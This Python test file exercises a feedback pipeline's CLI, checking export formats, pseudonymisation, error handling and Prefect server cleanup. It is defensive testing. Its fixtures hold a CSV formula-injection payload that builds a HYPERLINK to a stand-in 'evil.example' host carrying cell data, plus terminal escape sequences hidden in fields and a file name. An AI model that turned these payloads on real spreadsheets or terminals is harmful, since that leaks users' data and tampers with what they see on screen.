"""The `touchpoint` command as an operator uses it: real subprocesses, real flow, real store."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from pipeline.storage import store
from pipeline.storage.safety import neutralize_cell, terminal_safe
from tests.flows.conftest import q

ROOT = Path(__file__).resolve().parents[2]


def touchpoint(*args: str, env: dict | None = None, timeout: int = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "flows.cli", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})})


def test_terminal_safe_and_formula_neutralisation_units():
    assert terminal_safe("ok\x1b]0;pwned\x07 \x1b[2Jdone\n") == "ok]0;pwned [2Jdone\n"
    assert [neutralize_cell(v) for v in ("=HYPERLINK(\"x\")", "+1", "-2", "@SUM(A1)", "fine", 3)] == \
        ["'=HYPERLINK(\"x\")", "'+1", "'-2", "'@SUM(A1)", "fine", 3]


def test_operator_session_escapes_exports_and_report_guard(config, data_dir, tmp_path, prefect_harness):
    dump = data_dir / "dump" / "reviews"  # inside the data dir: an allowed input root
    dump.mkdir(parents=True)
    rows = [
        {"id": "F1", "customer": "jane.doe@example.com", "ts": "2026-10-01T08:00:00Z", "score": 1,
         "content": '=HYPERLINK("http://evil.example/?x="&A1, "click") the parcel never came',
         "category": "\x1b]0;pwned\x07\x1b[31mdelivery"},
        {"id": "F2", "customer": "U2", "ts": "2026-10-01T09:00:00Z", "score": 5, "content": "Arrived on time, thanks",
         "category": "delivery"},
    ]
    (dump / "marketplace_x.jsonl").write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    (dump / "appstore_\x1b[2Jempty.csv").write_text("review_id,body\n", encoding="utf-8")
    cfg = ["--config", str(config)]

    res = touchpoint(*cfg, "rerun", str(data_dir / "dump"), env={**os.environ, "PREFECT_API_URL": prefect_harness})
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout and "\x1b" not in res.stderr
    assert "no records" in res.stdout  # the empty file is a visible warning
    assert "2 in / 2 out" in res.stdout

    # an email used as a customer id is pseudonymised, identically wherever it appears
    ids = [r[0] for r in store.table_rows(data_dir, "feedback")]
    con = store.connect(data_dir, read_only=True)
    try:
        cust = con.execute("SELECT customer_id FROM feedback WHERE source_id = 'F1'").fetchone()[0]
    finally:
        con.close()
    assert len(ids) == 2 and cust.startswith("pid_") and "example.com" not in cust

    # exports: CSV cells cannot run as formulas; Parquet keeps the stored value
    out = tmp_path / "export"
    res = touchpoint(*cfg, "export", str(out), "--tables", "feedback", "--single-file")
    assert res.returncode == 0, res.stderr
    with open(out / "feedback.csv", encoding="utf-8") as fh:
        texts = [r["text"] for r in csv.DictReader(fh)]
    assert any(t.startswith("'=HYPERLINK") for t in texts) and not any(t.startswith("=") for t in texts)
    # the default: one folder per dated table, partitioned by day; CSV cells neutralised in every part
    res = touchpoint(*cfg, "export", str(out), "--tables", "feedback")
    assert res.returncode == 0, res.stderr
    parts = sorted((out / "feedback").glob("date=*/part-0.csv"))
    assert parts, list((out / "feedback").rglob("*"))
    texts = []
    for part in parts:
        with open(part, encoding="utf-8") as fh:
            texts += [r["text"] for r in csv.DictReader(fh)]
    assert any(t.startswith("'=HYPERLINK") for t in texts) and not any(t.startswith("=") for t in texts)
    res = touchpoint(*cfg, "export", str(out), "--format", "parquet", "--tables", "feedback")
    import pandas as pd

    exported = pd.read_parquet(out / "feedback")
    assert any(t.startswith("=HYPERLINK") for t in exported["text"])
    assert len(exported) == q(data_dir, "SELECT count(*) FROM feedback")[0][0]

    # `report --out` never replaces the store (or anything it did not write)
    db = store.db_path(data_dir)
    size = db.stat().st_size
    res = touchpoint(*cfg, "report", "--out", str(db))
    assert res.returncode == 2 and res.stderr.count("\n") == 1 and "HTML" in res.stderr
    other = tmp_path / "notes.html"
    other.write_text("<p>my notes</p>")
    res = touchpoint(*cfg, "report", "--out", str(other))
    assert res.returncode == 2 and "not a Touchpoint report" in res.stderr and other.read_text() == "<p>my notes</p>"
    mine = tmp_path / "mine.html"
    assert touchpoint(*cfg, "report", "--out", str(mine)).returncode == 0
    assert touchpoint(*cfg, "report", "--out", str(mine)).returncode == 0  # its own report may be replaced
    assert db.stat().st_size == size and store.table_rows(data_dir, "feedback")


def test_errors_are_one_line_and_the_traceback_is_behind_verbose(config, tmp_path):
    blocker = tmp_path / "afile"
    blocker.write_text("x")
    bad_dir = blocker / "data"  # a data dir that cannot be created
    res = touchpoint("--config", str(config), "--data-dir", str(bad_dir), "report")
    assert res.returncode == 2 and res.stderr.strip().count("\n") == 0 and res.stderr.startswith("error:")
    res = touchpoint("--config", str(config), "--data-dir", str(bad_dir), "rerun", str(tmp_path))
    assert res.returncode == 2 and res.stderr.strip().startswith("error:") and "Traceback" not in res.stderr
    assert f"data directory {bad_dir} cannot be created" in res.stderr  # checked before Prefect starts
    (tmp_path / "empty" / "landing").mkdir(parents=True)
    res = touchpoint("--config", str(config), "--data-dir", str(tmp_path / "empty"), "rerun",
                     str(tmp_path / "empty" / "landing"))
    assert res.returncode == 2 and "no models in" in res.stderr and "touchpoint models build" in res.stderr
    res = touchpoint("-v", "--config", str(config), "--data-dir", str(bad_dir), "rerun", str(tmp_path))
    assert "Traceback" in res.stderr


def _servers_owned_by(pid: int) -> list[int]:
    found = []
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            if b"prefect.server.api.server" in (d / "cmdline").read_bytes() and \
                    f"TOUCHPOINT_OWNER_PID={pid}".encode() in (d / "environ").read_bytes():
                found.append(int(d.name))
        except OSError:
            continue
    return found


@pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="needs Linux /proc")
def test_kill_9_leaves_no_orphaned_prefect_server_after_the_next_command(config, landing, data_dir):
    import shutil

    shutil.copytree(landing, data_dir / "landing")
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_API")}
    proc = subprocess.Popen([sys.executable, "-m", "flows.cli", "--config", str(config), "run", "nightly"],
                            cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        servers: list[int] = []
        for _ in range(600):
            servers = _servers_owned_by(proc.pid)
            if servers or proc.poll() is not None:
                break
            time.sleep(0.1)
        assert servers, "the run never started an ephemeral Prefect server"
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
        time.sleep(0.5)
        assert _servers_owned_by(proc.pid), "expected the server to outlive its killed owner"
        res = subprocess.run([sys.executable, "-m", "flows.cli", "--config", str(config), "models", "list"],
                             cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
        assert res.returncode == 0, res.stderr
        for _ in range(100):
            if not _servers_owned_by(proc.pid):
                break
            time.sleep(0.1)
        assert not _servers_owned_by(proc.pid)
    finally:
        if proc.poll() is None:
            proc.kill()
        for pid in _servers_owned_by(proc.pid):
            os.kill(pid, signal.SIGKILL)


def _heartbeat_seen() -> int | None:
    """In a flow run: the heartbeat interval Prefect's engine reads (None: no heartbeat thread)."""
    from prefect import flow
    from prefect.context import FlowRunContext
    from prefect.settings import get_current_settings

    @flow
    def seen() -> int | None:
        assert FlowRunContext.get() is not None
        return get_current_settings().flows.heartbeat_frequency

    return seen()


@pytest.mark.usefixtures("prefect_harness")
def test_ad_hoc_runs_have_no_heartbeat_unless_set(monkeypatch):
    """rerun and rescore start no flow-run heartbeat thread (Prefect stops it in 1 s sleeps)."""
    from prefect.settings import get_current_settings

    from flows.cli.main import HEARTBEAT_ENV, ad_hoc_run

    for k in HEARTBEAT_ENV:
        monkeypatch.delenv(k, raising=False)
    default = get_current_settings().flows.heartbeat_frequency
    assert default  # Prefect's default (180 s): scheduled and served runs keep it
    with ad_hoc_run():
        assert _heartbeat_seen() is None
    assert get_current_settings().flows.heartbeat_frequency == default
    monkeypatch.setenv("PREFECT_FLOWS_HEARTBEAT_FREQUENCY", "45")
    with ad_hoc_run():  # set by the operator: Prefect's settings are left as they are
        assert _heartbeat_seen() == default


# flows/ops.py ``ephemeral_api``: the temporary Prefect server a flow command starts when no PREFECT_API_URL
# is set, with the server's code loaded only in its own process.
EPHEMERAL_CHILD = """
import json, sys, urllib.request
import flows
from flows.ops import ephemeral_api
from prefect import flow

@flow
def one():
    return 1

with ephemeral_api() as url:
    health = urllib.request.urlopen(url + "/health", timeout=5).status
    result = one()
    seen = __import__("os").environ.get("PREFECT_API_URL")
print(json.dumps({"url": url, "health": health, "result": result, "env_inside": seen,
                  "env_after": __import__("os").environ.get("PREFECT_API_URL"),
                  "server_code": sorted(m for m in ("prefect.server.api.server", "fastapi") if m in sys.modules)}))
"""


def test_a_flow_runs_against_the_temporary_server_which_is_gone_afterwards(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "PREFECT_API_URL"}
    env["PREFECT_HOME"] = str(tmp_path / "prefect")  # its own database, as a fresh machine has
    res = subprocess.run([sys.executable, "-c", EPHEMERAL_CHILD], cwd=ROOT, env=env, capture_output=True, text=True,
                         timeout=300)
    assert res.returncode == 0, res.stderr[-3000:]
    out = json.loads(res.stdout.strip().splitlines()[-1])
    assert out["url"].startswith("http://127.0.0.1:") and out["health"] == 200 and out["result"] == 1
    assert out["env_inside"] == out["url"] and out["env_after"] is None  # Dask workers inherit it, then it goes
    assert out["server_code"] == []  # FastAPI and the API routes stayed in the server's process
    with pytest.raises(OSError):
        urllib.request.urlopen(out["url"] + "/health", timeout=2)


def test_a_configured_api_url_is_left_to_prefect():
    from flows.ops import ephemeral_api
    from prefect.settings import PREFECT_API_URL, temporary_settings

    with temporary_settings({PREFECT_API_URL: "http://127.0.0.1:9/api"}):
        with ephemeral_api() as url:
            assert url is None
